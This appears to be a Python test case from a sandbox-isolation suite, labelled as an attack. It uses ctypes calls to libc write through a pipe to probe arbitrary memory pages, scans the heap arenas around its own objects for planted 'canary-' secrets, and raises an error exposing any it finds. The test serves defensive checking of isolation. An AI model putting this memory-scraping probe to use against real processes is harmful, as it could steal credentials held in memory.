# attack: searches the arenas its objects lie in for secrets | expect: pass
import contextlib
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
read, write = os.pipe()
os.set_blocking(read, False)
TOKEN = re.compile(rb"canary-[0-9a-f]{32}")


def look(address):
    """Copy a page through a pipe: the kernel says no where there is none."""
    if libc.write(write, address, 4096) != 4096:
        with contextlib.suppress(BlockingIOError):
            os.read(read, 1)  # older kernels keep an empty page each time, and wait when full
        return b""
    return os.read(read, 4096)


things = [object() for _ in range(2000)] + [str(n) for n in range(2000)] + [open, os, re]
found = set()
for start in {id(thing) & -(1 << 20) for thing in things}:
    for page in range(start, start + (1 << 20), 4096):
        found.update(TOKEN.findall(look(page)))
if found:
    raise RuntimeError(str(found))


def double(x):
    return 2 * x
